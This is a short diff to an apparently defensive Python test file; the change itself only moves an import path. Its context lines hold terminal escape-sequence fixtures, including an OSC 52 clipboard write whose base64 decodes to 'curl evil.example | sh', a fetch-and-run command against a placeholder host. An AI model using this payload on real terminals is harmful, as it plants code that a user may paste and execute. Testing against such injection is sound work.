@@ -10,7 +10,7 @@ import re
 import pytest
 
 from tests.fakes import DOWNTIME, make_eml
-from tests.test_cli import fakes, run  # noqa: F401 - fixtures
+from tests.system.test_cli import fakes, run  # noqa: F401 - fixtures
 
 OSC_TITLE = "\x1b]0;owned\x07"
 OSC_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x1b\\"
